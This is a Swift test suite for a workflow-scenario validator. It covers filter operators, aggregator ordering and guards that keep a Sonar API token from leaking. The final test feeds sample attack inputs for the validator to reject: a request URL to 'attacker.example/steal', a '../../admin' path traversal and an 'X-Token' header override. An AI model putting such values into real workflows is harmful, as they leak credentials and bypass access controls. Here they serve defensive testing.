import ScenarioModel
import SonarflowTesting
import Testing
import Validation

/// Filters, aggregators and the checks that keep the Sonar token safe.
@Suite struct FlowChecksTests {
  @Test func unknownOperatorSuggestsMakesID() {
    let marked = MarkedText(
      """
      name: x
      trigger: { module: webhook.custom, params: { webhookName: a } }
      flow:
        - id: 2
          module: util.getVariable
          map: { name: a }
          filter:
            conditions: [[ { a: "{{1.n}}", op: 1️⃣"number:greatr", b: 3 } ]]
      """)
    let found = expectDiagnostic(
      "filter.unknownOperator", at: "1️⃣", in: marked, message: "unknown filter operator 'number:greatr'")
    #expect(found?.fixHint == "Did you mean 'number:greater'?")
  }

  @Test func operandsMatchTheOperator() {
    let marked = MarkedText(
      """
      name: x
      trigger: { module: webhook.custom, params: { webhookName: a } }
      flow:
        - id: 2
          module: util.getVariable
          map: { name: a }
          filter:
            conditions:
              - - { a: "{{1.n}}", op: number:greater, b: 1️⃣many }
              - - 2️⃣{ a: "{{1.n}}", op: text:equal }
              - - { a: "{{1.n}}", op: exist, b: 3️⃣x }
              - - { a: "{{1.n}}", op: text:pattern, b: 4️⃣"(unclosed" }
      """)
    expectDiagnostic(
      "filter.notANumber", at: "1️⃣", in: marked, message: "'number:greater' compares numbers, but 'b' is 'many'")
    expectDiagnostic("filter.missingOperand", at: "2️⃣", in: marked, message: "'text:equal' needs 'b' to compare with")
    expectDiagnostic("filter.unusedOperand", at: "3️⃣", in: marked, message: "'exist' takes no 'b'")
    expectDiagnostic(
      "filter.invalidPattern", at: "4️⃣", in: marked, message: "'(unclosed' is not a valid regular expression")
  }

  @Test(arguments: FilterOperator.allIDs)
  func everyMakeOperatorIsAccepted(op: String) {
    let b = op == "exist" || op == "notexist" ? "" : op.hasPrefix("boolean:") ? ", b: true" : ", b: \"1\""
    let text = """
      name: x
      trigger: { module: webhook.custom, params: { webhookName: a } }
      flow:
        - id: 2
          module: util.getVariable
          map: { name: a }
          filter: { conditions: [[ { a: "{{1.n}}", op: "\(op)"\(b) } ]] }
      """
    #expect(validate(MarkedText(text)).filter { $0.severity == .error }.isEmpty)
  }

  @Test func aggregatorSourceMustRunBefore() {
    let marked = MarkedText(
      """
      name: x
      trigger: { module: webhook.custom, params: { webhookName: a } }
      flow:
        - id: 2
          module: flow.numericAggregator
          params: { source: 1️⃣3, function: SUM }
          map: { value: 1 }
        - id: 3
          module: flow.iterator
          map: { array: "{{1.items}}" }
      """)
    expectDiagnostic(
      "aggregator.sourceNotUpstream", at: "1️⃣", in: marked,
      message: "source module 3 does not run before aggregator 2 on its path")
  }

  @Test func apiCallURLMustBeRelative() {
    let marked = MarkedText(
      """
      name: x
      trigger: { module: webhook.custom, params: { webhookName: a } }
      flow:
        - id: 2
          module: sonar.apiCall
          map: { url: 1️⃣"https://attacker.example/steal", method: GET }
        - id: 3
          module: sonar.apiCall
          map: { url: 2️⃣"/customers/../../admin", method: GET }
        - id: 4
          module: sonar.apiCall
          map:
            url: /customers
            method: GET
            headers:
              - { key: 3️⃣X-Token, value: abc }
      """)
    expectDiagnostic(
      "secret.absoluteURL", at: "1️⃣", in: marked,
      message: "'url' of sonar.apiCall must be relative to the Sonar API, not 'https://attacker.example/steal'")
    expectDiagnostic("secret.pathEscape", at: "2️⃣", in: marked)
    expectDiagnostic(
      "secret.tokenHeader", at: "3️⃣", in: marked, message: "header 'X-Token' would override the connection's Sonar token"
    )
  }
}
